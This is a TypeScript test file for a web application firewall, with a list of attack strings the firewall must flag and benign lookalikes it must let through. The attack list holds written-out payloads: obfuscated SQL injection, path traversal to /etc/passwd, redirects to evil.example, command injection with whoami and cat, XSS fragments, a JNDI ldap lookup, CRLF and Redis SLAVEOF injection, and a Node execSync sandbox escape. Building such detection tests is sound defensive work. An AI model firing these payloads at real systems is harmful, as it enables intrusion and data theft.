// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shells and templates write so.
import { ok } from "node:assert/strict";
import { describe, test } from "node:test";
import { SURE, weightOf } from "./weight.ts";

/** By what they have in common; the values are of our own making. */
const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  "SQL behind an operand that the value closes": ["7%) and 4=4 -- ", "name) as q where 3=3 union all select null -- ", "[2] having 5=5 -- ", "x]-;select pg_sleep(3) -- ", "red) and (select count(*) from sysusers as a)>1 -- "],
  "SQL of a few bytes": ["3 xor 0", "2 && 2", "1 || 1", "'='", "' like '", "@@version", "'x'='x", "8=8", "not 3=4", "or true", " ORDER BY 7", "if(2=2,1,0)", "concat(user(),database())", "1 rlike 1"],
  "SQL in a broken spelling": ["9' o<>r 2=2 un<>ion sel<>ect 1,2 -- ", "%3%' %U%N%I%O%N %S%E%L%E%C%T %1%,%2 -- ", "4 AND IF 1.e(ORD 1.e(MID(VERSION(),1,1))>3 1.e,SLEEP(2),0)", '"b"" or 4=4 -- "', "1 /*!50000or*/ 2=2", "b'3 or pg_sleep(2) -- '", "', n=@`'`, extractvalue(1,concat(0x20,md5(3))),@`'`", "-3 union select top 1 a b(0x7e) c,2 from d -- "],
  "SQL in the name of a parameter": ["name[0 or updatexml(0,concat(0xa,user()),0)#]"],
  "paths with garbled separators": ["..%c1%9q..%c1%9q..%c1%9qboot.ini", "..%uEFC8..%uEFC8windows", "%f8%80%80%80%ae%f8%80%80%80%ae/%f8%80%80%80%ae%f8%80%80%80%ae/etc/passwd", "..\xc0\xaf..\xc0\xafetc", "/......................etc/passwd", "..0x5c..0x5cboot.ini"],
  "whole paths to files of a system": ["C:\\Program Files\\Common Files\\system\\a.xml", "c:/users/all users/appdata/local/temp/setup.log", "/usr/local/apache2/conf/httpd.conf", "/www/logs/access.log\0", "../conf/mail.properties", "/../WEB-INF/"],
  "addresses that hide where they lead": ["///evil.example", "/\\evil.example/", "https:evil.example", "https:///evil.example/%2f..", "//good.example@evil.example/", "http://good.example;@evil.example", "/https://evil.example/", "http://0xd8.072.54990", "http://[::ffff:203.0.113.9]", "//evil.example/%2e%2e", "https://\u24d4vil.ex\u24d0mple/"],
  "commands put together from pieces": ['\nX=$"whoami";$X', "; cat$u /etc$u/passwd$u", "$0<<<$'\\$(($((1<<1))#1001))'", "127.0.0.1 && dir", "||dir|c:\\", "$(rm lib/x)", "awk 'BEGIN{s=\"/inet/tcp/0/h/1\"}'", "perl -e 'system(\"id\")'", "touch /tmp/x", "() { echo a; }"],
  "tags that end in the middle": ['"><iframe src', "<svg/onload", "<details ontoggle+=+x()>", "<img src='1' onerror/=f(0)>", '<embed src=""http://x.example/a.swf"" allowscriptaccess=""always"">'],
  "letters taken out of the names of values": ["([,O,B]=[]+{},[T,R]=[!!O]+!O)[1]", "\u30a6='',\u30a2=!\u30a6+\u30a6,x=\u30a6+{}"],
  "script in odd character sets": ['<meta charset="utf-7">', "+adw-script+ad4-f()+adw-/script+ad4-", "<\u202escript\u202e>alert(1)</script>"],
  "lookups with escaped braces": ["$\\{$\\{::-j\\}ndi:ldap://h.example/a\\}"],
  "lines for other servers": ["a\r\nX-Injected-Header: b", "k\r\nset a 0 0 1\r\n1", "x\r\nSLAVEOF h.example 6379"],
  "gadgets and ways out of a sandbox": ["com.mchange.v2.c3p0.WrapperConnectionPoolDataSource", "mail[#post_render][]", "x\\u0027+#request.get('a').internalGet('ognl')", "lang=en'.print(md5(3)).'", "const p = process.mainModule\nconst r = p.require('child_process')\nr.execSync('id')", "a: &a [x,x]\nb: &b [*a,*a,*a,*a]"],
  "probes of several template languages at once": ["<%{{#{x}}%>", "${{<%[%'}}", "{{#{@{1}}}"],
  "short Base64": [Buffer.from("; pwd").toString("base64"), Buffer.from("#{1*1}").toString("base64")],
  "parameters that came as one text": ["5&host=;id;", "count=5&ip=`id`"],
  "a segment of a path": ["/items/%26%26%20whoami/details", "/users/1%27%20or%202=2--%20/edit"],
}; // biome-ignore format: one list each

const HONEST: Readonly<Record<string, readonly string[]>> = {
  "versions of packages": [">=16 || ^14.17.0", "^1.2.0 || ~2.0", "1.0.0 - 2.9.9"],
  "package scripts": ["tsc && npm run lint", "rm -rf dist && node build.js", "git push && git push --tags", "./configure && make -j4", 'echo "Error: no test specified" && exit 1', "mkdir -p src/app"],
  "links that do nothing": ["javascript:void(0);", '<a href="javascript:;">x</a>', "href='javascript: void(0)' id=1"],
  "words typed into a search": ["1<script", "<script is not loaded", "passwd \uc774\ub780", 'q="LIKE" STAMP', '"MOD"', "select brand"],
  "paths of pages": ["/etc/designs/site/main", "/content/site/etc/logo.svg", "/etc/clientlibs/a/b.js", "//cdn.example.com/x.js", "/files/2024/report.pdf"],
  "names of analytics": ['{"$set":{"plan":"pro"}}', '{"age":{"$gte":21}}', '{"$comment":"see below"}'],
  "marks and lines of other texts": ["/// see also: host.name", "mysql> show me the data", "+82-2-345-6789", "//*[@id=\"app\"]/div[2]", "<!DOCTYPE fontconfig SYSTEM \"../fonts.dtd\">"],
}; // biome-ignore format: one list each

for (const [name, values] of Object.entries(ATTACKS)) {
  describe(`The firewall, for ${name},`, () => {
    for (const value of values) test(`is sure of ${JSON.stringify(value)}`, () => ok(weightOf(value) >= SURE));
  });
}

for (const [name, values] of Object.entries(HONEST)) {
  describe(`The firewall, for ${name},`, () => {
    for (const value of values) test(`lets ${JSON.stringify(value)} through`, () => ok(weightOf(value) < SURE));
  });
}
